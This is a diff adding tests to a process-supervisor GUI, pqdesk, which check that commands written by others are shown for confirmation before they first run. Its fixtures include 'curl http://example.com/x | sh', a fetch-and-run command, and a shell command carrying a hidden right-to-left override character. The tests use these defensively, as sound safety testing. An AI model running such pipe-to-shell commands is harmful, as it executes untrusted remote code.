@@ -5,13 +5,17 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
+from PySide6.QtCore import Qt
+from PySide6.QtWidgets import QPlainTextEdit, QWidget
 
 from pqdesk import Workspace
 from pqdesk.errors import LookOnly, SupervisorError
-from pqdesk.gui.threads.orders import SaveRequest
+from pqdesk.gui.dialogs.first_start import FirstStartDialog
+from pqdesk.gui.threads.orders import SaveRequest, WorkerOrder
 from pqdesk.gui.threads.supervisor_link import SupervisorLink
 from pqdesk.paths import WorkspacePaths
 from pqdesk.supervision.defined import WorkerDefinition
+from pqdesk.supervision.first_start import PlannedCommand
 from pqdesk.supervision.records import WorkerState
 from pqdesk.supervision.supervision import Supervision
 from tests.gui.shell_fakes import FakeSupervision, make_replica, make_status
@@ -119,3 +123,65 @@ def test_orders_of_the_window_are_refused_where_people_may_only_look(qapp: objec
     assert ended == [(failures[1][0],)]
     [(token, error)] = saved
     assert (token, type(error)) == (7, LookOnly)
+
+
+PLANNED = PlannedCommand("mail", "curl http://example.com/x | sh", 2, Path("/srv"), True)
+
+
+@pytest.mark.parametrize("verb", ["start", "restart", "scale", "bring_back", "restart_daemon"])
+def test_what_somebody_else_wrote_is_shown_before_it_runs_for_the_first_time(
+    link: SupervisorLink, supervision: FakeSupervision, verb: str
+) -> None:
+    supervision.unseen = (PLANNED,)
+    found, order = collect(link.first_start_found), WorkerOrder(verb, ("mail",), 1)  # type: ignore[arg-type]
+
+    link.carry_out(order)
+
+    assert found == [((PLANNED,), order)]
+    assert supervision.told == []
+
+
+def test_it_runs_when_it_was_seen_and_is_not_asked_about_again(
+    link: SupervisorLink, supervision: FakeSupervision
+) -> None:
+    supervision.unseen = (PLANNED,)
+    found = collect(link.first_start_found)
+
+    link.carry_out_seen(WorkerOrder("start", ("mail",)))
+    link.start("all")
+
+    assert found == []
+    assert supervision.told == [("start", "mail"), ("start", "all")]
+
+
+def test_stopping_asks_nothing(link: SupervisorLink, supervision: FakeSupervision) -> None:
+    supervision.unseen = (PLANNED,)
+
+    link.stop("all")
+
+    assert supervision.told == [("stop", "all")]
+
+
+def test_a_worker_of_ones_own_starts_no_others_unseen(link: SupervisorLink, supervision: FakeSupervision) -> None:
+    supervision.unseen = (PLANNED,)
+    found = collect(link.first_start_found)
+    mine = WorkerDefinition(name="mine", command=("true",))
+
+    link.save(SaveRequest(mine, is_new=True, is_started=True), 1)
+
+    assert [one[1].names for one in found] == [("mine",)]
+    assert [one[:2] for one in supervision.told] == [("add", mine)]
+
+
+def test_the_dialog_shows_each_command_as_it_is(qtbot, theme) -> None:
+    parent = QWidget()
+    qtbot.addWidget(parent)
+    hostile = PlannedCommand("<b>x</b>", "sh -c 'a\u202eb\nc'", 1, None, False)
+    dialog = FirstStartDialog("/srv/w", (PLANNED, hostile), theme, parent)
+    dialog.open()
+
+    shown = dialog.findChild(QPlainTextEdit).toPlainText()
+    assert "mail, 2 processes, starts with supervisord\n    curl http://example.com/x | sh\n    in /srv" in shown
+    assert "<b>x</b>\n    sh -c 'a\\u202Eb␊c'" in shown
+    with qtbot.waitSignal(dialog.rejected):
+        qtbot.keyClick(dialog, Qt.Key.Key_Return)  # Enter must not run anything
